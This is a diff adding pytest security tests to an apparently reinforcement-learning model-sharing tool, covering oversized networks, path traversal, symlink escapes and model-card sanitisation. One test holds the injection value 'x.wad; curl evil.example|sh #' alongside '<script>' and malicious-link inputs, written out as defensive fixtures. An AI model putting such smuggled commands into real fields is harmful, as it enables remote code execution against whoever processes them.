@@ -260,3 +260,107 @@ def test_a_registered_scenario_is_none_of_a_repositorys(
     monkeypatch.setattr(scenarios, "_REGISTERED", {"mine": (row, "x.py:mine")})
     repository(scenario="mine")
     assert "which is not built in" in refused(capsys, "pull", REPO, "--run", "new")
+
+
+def test_a_network_larger_than_the_checkpoint_is_never_made(repository, capsys):
+    # Some hundreds of gigabytes.
+    repository("network", core="lstm", core_size=16384, core_layers=64)
+    error = refused(capsys, "pull", REPO, "--run", "new")
+    assert "checkpoint does not fit its settings" in error
+    assert nothing_is_left()
+
+
+def test_a_run_that_was_given_as_files_makes_no_larger_network(run, capsys):
+    settings = json.loads((run / "config.json").read_text())
+    settings["network"] |= {"core": "lstm", "core_size": 16384, "core_layers": 64}
+    (run / "config.json").write_text(json.dumps(settings))
+    for command in ("evaluate", "train"):
+        more = ("--total-frames", "5000000000") if command == "train" else ()
+        error = refused(capsys, command, "--run", run, *more)
+        assert "does not fit these settings" in error
+
+
+def test_a_trusted_scenario_names_no_file_of_the_users(repository, tmp_path, capsys):
+    secret = tmp_path / "secret.wad"
+    shutil.copy(wads.wheel_scenarios() / "basic.wad", secret)
+    cfg = own_scenario("maze")["scenario/maze.cfg"].decode()
+    for name in (str(secret), f"../../{secret.name}"):
+        text = cfg.replace("mine.wad", name).encode()
+        repository(scenario="scenario/maze.cfg", extra={"scenario/maze.cfg": text})
+        command = ("pull", REPO, "--run", tmp_path / "new", "--trust-scenario")
+        assert "it cannot be trusted" in refused(capsys, *command)
+    assert nothing_is_left()
+
+
+@pytest.mark.parametrize("scenario", ["scenario/mine.wad", "scenario/x:y.cfg"])
+def test_a_scenario_is_a_cfg_file(repository, capsys, scenario):
+    extra = own_scenario("maze")
+    repository(scenario=scenario, extra=extra)
+    error = refused(capsys, "pull", REPO, "--run", "new", "--trust-scenario")
+    assert "is no .cfg file in it" in error
+
+
+def test_flags_that_do_nothing_for_sample_factory_are_refused(server, capsys):
+    files = {
+        str(path.relative_to(DATA / "gru")): path.read_bytes()
+        for path in (DATA / "gru").rglob("*")
+        if path.is_file()
+    }
+    server.make("ada/theirs", files)
+    for flags in (["--trust-scenario"], ["--network", "x.py:X"]):
+        error = refused(capsys, "pull", "ada/theirs", *flags)
+        assert f"leave {flags[0]} out" in error
+
+
+@pytest.mark.parametrize(
+    "map_file",
+    [
+        {"file": "x.wad; curl evil.example|sh #", "from": "--map", "sha256": ""},
+        {"file": "a.wad<script>x", "from": "--map", "sha256": ""},
+    ],
+)
+def test_an_evaluation_puts_no_command_into_the_card(server, run, map_file):
+    result = json.loads((run / "evaluation.json").read_text())
+    result |= {"map": map_file, "trained_on": [map_file]}
+    (run / "evaluation.json").write_text(json.dumps(result))
+    push(run)
+    card = server.files(REPO)["README.md"].decode()
+    assert "; curl" not in card
+    assert "|sh" not in card
+    assert "<script>" not in card
+
+
+@pytest.mark.parametrize(
+    "changes",
+    [
+        {"map": {"file": "a.wad", "from": "[x](http://evil)", "sha256": ""}},
+        {"map": {"file": "a/b.wad", "from": "vizdoom", "sha256": ""}},
+        {"map": {"file": "a.wad", "from": "vizdoom", "sha256": "no"}},
+        {"map": {"file": "a.wad", "from": "vizdoom"}},
+        {"trained_on": [5]},
+        {"map": [], "trained_on": []},
+    ],
+)
+def test_an_evaluations_map_is_one(run, server, capsys, changes):
+    result = json.loads((run / "evaluation.json").read_text())
+    (run / "evaluation.json").write_text(json.dumps(result | changes))
+    assert "evaluation.json cannot be read" in refused(capsys, "push", run, REPO)
+
+
+def test_an_evaluation_may_say_nothing_of_maps(run, server):
+    result = json.loads((run / "evaluation.json").read_text())
+    result |= {"map": None, "trained_on": None}
+    (run / "evaluation.json").write_text(json.dumps(result))
+    push(run)
+    assert "Map file" not in server.files(REPO)["README.md"].decode()
+
+
+def test_push_follows_no_link_out_of_the_run(server, run, tmp_path):
+    secret = tmp_path / "secret"
+    secret.write_text("private")
+    for name in ("metrics.jsonl", "evaluation.mp4"):
+        (run / name).unlink()
+        (run / name).symlink_to(secret)
+    (run / "tensorboard" / "events.out.tfevents.5.x").symlink_to(secret)
+    push(run)
+    assert not [n for n, text in server.files(REPO).items() if b"private" in text]
